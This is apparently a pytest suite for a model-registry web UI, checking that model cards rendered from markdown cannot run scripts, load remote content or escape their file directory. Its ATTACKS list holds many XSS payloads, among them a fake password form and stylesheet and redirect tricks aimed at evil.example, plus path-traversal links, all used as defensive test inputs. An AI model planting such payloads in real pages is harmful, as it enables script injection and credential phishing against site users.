"""Cards of strangers are shown as they are meant, and can do nothing."""

import re
from html.parser import HTMLParser

import pytest

from registry_ui.web.highlighting import LANGUAGES, highlight
from registry_ui.web.markdown import LONGEST, to_safe_html

FILES = "/models/sentiment/versions/3/files/"
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" onload=alert(1)>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvA&#x0A;ScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '![x](javascript:alert(1)) ![y](https://evil.example/pixel.png "a")',
    '![x](x "onerror=alert(1)") ![" onerror=alert(1) x="](y)',
    "<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=https://evil.example/x.css>",
    '<p style="background:url(https://evil.example)">x</p>',
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    '<div hx-get="/jobs" hx-trigger="load" data-copy="x" id="main" class="notice notice-bad">x</div>',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="//evil.example/x.png"><img src="\\\\evil.example\\x.png">',
    '<img srcset="https://evil.example/x.png 2x" src="/assets/1">',
]


class Audit(HTMLParser):
    """Collects whatever could act, load or pretend."""

    HARMLESS = frozenset(
        {"href", "title", "alt", "src", "width", "height", "loading", "rel", "class", "id", "align", "open", "start", "scope"}
        | {"colspan", "rowspan"}
    )

    def __init__(self, html: str) -> None:
        super().__init__()
        self.harm: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "link",
            "meta",
            "base",
        }:
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name not in self.HARMLESS:
                self.harm.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?|mailto):|#card-|" + FILES, value):
                self.harm.append(f"{tag} {name}={value}")
            if name == "src" and not re.match(r"data:image/png;base64,|" + FILES, value):
                self.harm.append(f"{tag} {name}={value}")
            if name == "class" and not re.fullmatch(r"language-\w+|[a-z][a-z0-9]{0,2}", value):
                self.harm.append(f"{tag} class={value}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("files_url", ["", FILES])
def test_nothing_in_a_card_can_act_load_or_pretend(attack, files_url):
    assert Audit(to_safe_html(attack, files_url=files_url)).harm == []


@pytest.mark.parametrize(
    "link",
    ["../../../jobs", "..%2f..%2f..%2fjobs", "/jobs", "a/../../../x", "./%2e%2e/%2e%2e/x", "//evil.example", "?logout", "\\\\x"],
)
def test_links_beside_the_card_cannot_climb_out(link):
    targets = re.findall(r'(?:href|src)="([^"]*)"', to_safe_html(f"[x]({link}) ![y]({link})", files_url=FILES))
    assert all(target.startswith(FILES) and ".." not in target for target in targets)


def test_pictures_and_links_beside_the_card_are_found():
    html = to_safe_html("![curve](images/loss%20curve.png) and [the configuration](config.json)", files_url=FILES)
    assert f'src="{FILES}images/loss%20curve.png"' in html
    assert f'href="{FILES}config.json"' in html


def test_a_picture_from_elsewhere_is_its_words_only():
    html = to_safe_html("![build passing](https://evil.example/badge.png)")
    assert "evil.example" not in html
    assert 'alt="build passing"' in html


def test_a_card_reads_as_it_was_written():
    html = to_safe_html(
        "# Sentiment\n\nIt is **good**, ~~bad~~ `fine`.\n\n| Split | Accuracy |\n|:--|--:|\n| held out | 0.90 |\n\n"
        "```python\ndef classify(text): ...\n```\n\n<details><summary>More</summary>\n\nHidden *words*.\n\n</details>\n"
    )
    assert '<h2 id="card-sentiment">Sentiment</h2>' in html
    assert "<strong>good</strong>, <s>bad</s> <code>fine</code>" in html
    assert '<td align="right">0.90</td>' in html
    assert '<span class="k">def</span>' in html
    assert "<summary>More</summary>" in html
    assert "<em>words</em>" in html


def test_a_table_of_contents_leads_to_its_headings():
    html = to_safe_html("- [Usage](#Usage-notes)\n\n## Usage notes\n")
    assert 'href="#card-usage-notes"' in html
    assert 'id="card-usage-notes"' in html


def test_a_text_that_is_too_long_says_that_it_was_cut():
    html = to_safe_html("word " * (LONGEST // 4))
    assert "The rest is not shown" in html


def test_deep_nesting_ends():
    assert to_safe_html("> " * 5_000 + "x")
    assert to_safe_html("[" * 5_000 + "x" + "](y)" * 5_000)
    assert to_safe_html("<div>" * 5_000)


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_code_of_every_language_we_color_is_escaped(language):
    html = highlight("x = '<b>' # &", language)
    assert "<b>" not in html
    assert "&amp;" in html


def test_code_of_an_unknown_language_is_shown_plain_and_escaped():
    assert highlight("<b>", "klingon") == "&lt;b&gt;"
